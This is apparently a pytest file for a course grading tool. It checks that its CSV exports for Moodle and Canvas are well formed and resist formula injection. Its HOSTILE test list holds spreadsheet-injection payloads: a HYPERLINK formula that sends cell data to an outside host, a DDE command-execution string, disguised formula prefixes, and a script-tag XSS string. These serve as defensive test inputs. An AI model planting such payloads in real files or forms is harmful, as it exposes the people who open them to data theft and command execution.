"""Tables of scores: what they hold, and that no cell of theirs is a formula."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest

from course_utils.grading import tables
from course_utils.grading.submissions import Student, Submission
from course_utils.grading.tables import COLUMNS, Row


def graded(path, student, score=7.5, slug="softmax", title="Softmax", mistake=""):
    question = {"name": "f", "earned": score, "mistake": mistake}
    result = {
        "exercise": slug,
        "title": title,
        "score": score,
        "points": 10,
        "questions": [question],
        "version": "v",
        "sha256": "s",
    }
    return Row(Submission(path, student), "graded", "", result, "feedback/x.html")


def table(text):
    return list(csv.reader(io.StringIO(text, newline="")))


def test_every_submission_has_a_row():
    failed = Row(Submission("b.ipynb", Student("Bob")), "not graded", "the file is no notebook")
    rows = [graded("a.ipynb", Student("Ann"), mistake="no shift"), failed]
    header, first, second = table(tables.grades(rows))
    assert tuple(header) == COLUMNS
    ann, bob = dict(zip(header, first, strict=True)), dict(zip(header, second, strict=True))
    assert ann["score"] == "7.5"
    assert ann["question_1"] == "7.5"
    assert ann["mistakes"] == "f: no shift"
    assert ann["feedback"] == "feedback/x.html"
    # No score is no zero.
    assert (bob["status"], bob["score"], bob["question_1"]) == ("not graded", "", "")
    assert bob["reason"] == "the file is no notebook"


HOSTILE = [
    '=HYPERLINK("http://example.org/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    " =1",
    "\n+1",
    "＝1",
    "\u200b=1",
    "\ufeff=1",
    "\u00a0=1",
    '","=1',
    "a\r\n=1,2",
    "</td><script>alert(1)</script>",
    "a;=1+1;b",
    "a; @SUM(1)",
    "=1;+1",
]


@pytest.mark.parametrize("name", HOSTILE)
def test_no_cell_begins_a_formula_or_a_row(name):
    row = graded(f"{name}.ipynb", Student(name, "1", "2"), mistake=name, title=name)
    texts = [tables.grades([row]), tables.moodle([row]), tables.canvas([row])]
    for text, size in zip(texts, (2, 2, 3), strict=True):
        read_back = table(text)
        assert len(read_back) == size
        assert len({len(line) for line in read_back}) == 1
        by_semicolons = csv.reader(io.StringIO(text, newline=""), delimiter=";")
        lines = [*read_back, *by_semicolons]
        for cell in (cell for line in lines for cell in line if cell != "-"):
            visible = cell.lstrip("\u200b\ufeff\u00a0 \t\r\n")
            assert not visible.startswith(("=", "+", "-", "@", "＝")), cell
            assert "\n" not in cell
            assert "\r" not in cell
            assert "\t" not in cell


def test_an_ordinary_name_stays_as_it_is():
    for name in ("Jean-Luc", "O'Neil", "李小龙", "Łukasz Żak", "a=b"):
        assert tables.cell(name) == name


def test_moodle_finds_its_participants():
    rows = [
        graded("a", Student("Ann Lee", moodle_id="123456")),
        graded("b", Student("Bob", canvas_id="1")),
        Row(Submission("c", Student("C", moodle_id="7")), "not graded", "broken"),
    ]
    assert table(tables.for_import(rows)["moodle.csv"]) == [
        ["Identifier", "Full name", "Grade", "Maximum grade", "Last modified (grade)"],
        ["Participant 123456", "Ann Lee", "7.5", "10", "-"],
    ]


def test_moodle_finds_for_whom_the_pages_are(tmp_path):
    def unread(path, moodle_id):
        student = Student("Dan_X", moodle_id=moodle_id)
        return Row(Submission(path, student), "not graded", "broken", feedback="feedback/y.html")

    (tmp_path / "feedback").mkdir()
    (tmp_path / "feedback" / "x.html").write_text("of Ann")
    (tmp_path / "feedback" / "y.html").write_text("of Dan")
    ann = graded("a", Student("Ann Lee", moodle_id="123"))
    rows = [ann, unread("b", "7"), graded("c", Student("Bob", canvas_id="1"))]
    rows.append(Row(Submission("d", Student("Eve", moodle_id="8")), "superseded", "e counts"))
    ((name, content),) = tables.feedback_for_moodle(rows, tmp_path).items()
    assert name == "moodle-feedback.zip"
    assert content == tables.feedback_for_moodle(rows, tmp_path)[name]
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        pages = {name: archive.read(name).decode() for name in archive.namelist()}
    assert pages == {
        "Participant_123_assignsubmission_file_/feedback.html": "of Ann",
        "Participant_7_assignsubmission_file_/feedback.html": "of Dan",
    }
    # As Moodle splits the name of a folder.
    assert [path.split("/")[0].split("_", 4)[1] for path in pages] == ["123", "7"]
    rows = [ann, graded("b", Student("Ann Lee", moodle_id="9"), slug="kl")]
    names = ["moodle-feedback-kl.zip", "moodle-feedback-softmax.zip"]
    assert sorted(tables.feedback_for_moodle(rows, tmp_path)) == names
    assert tables.feedback_for_moodle(rows[:0], tmp_path) == {}


def test_canvas_gets_a_row_of_points_and_a_column_for_each_exercise():
    ann, bob = Student("leeann", canvas_id="12"), Student("roebob", canvas_id="13")
    rows = [
        graded("a", ann, 7.5),
        graded("b", ann, 3, "kl", "Divergence"),
        graded("c", bob, 0),
        Row(Submission("d", Student("doedan", canvas_id="14")), "not graded", "broken"),
    ]
    assert table(tables.for_import(rows)["canvas.csv"]) == [
        ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "Divergence", "Softmax"],
        ["    Points Possible", "", "", "", "", "10", "10"],
        ["leeann", "12", "", "", "", "3", "7.5"],
        ["roebob", "13", "", "", "", "", "0"],
    ]


def test_no_student_passes_for_the_row_of_points():
    row = graded("a", Student("x Points Possible", canvas_id="12"))
    assert sum("Points Possible" in line[0] for line in table(tables.canvas([row]))) == 1


def test_there_is_a_worksheet_for_each_exercise_and_none_without_identifiers():
    ann = Student("Ann", moodle_id="1")
    rows = [graded("a", ann), graded("b", ann, slug="kl")]
    assert sorted(tables.for_import(rows)) == ["moodle-kl.csv", "moodle-softmax.csv"]
    assert tables.for_import([graded("a", Student("Ann"))]) == {}
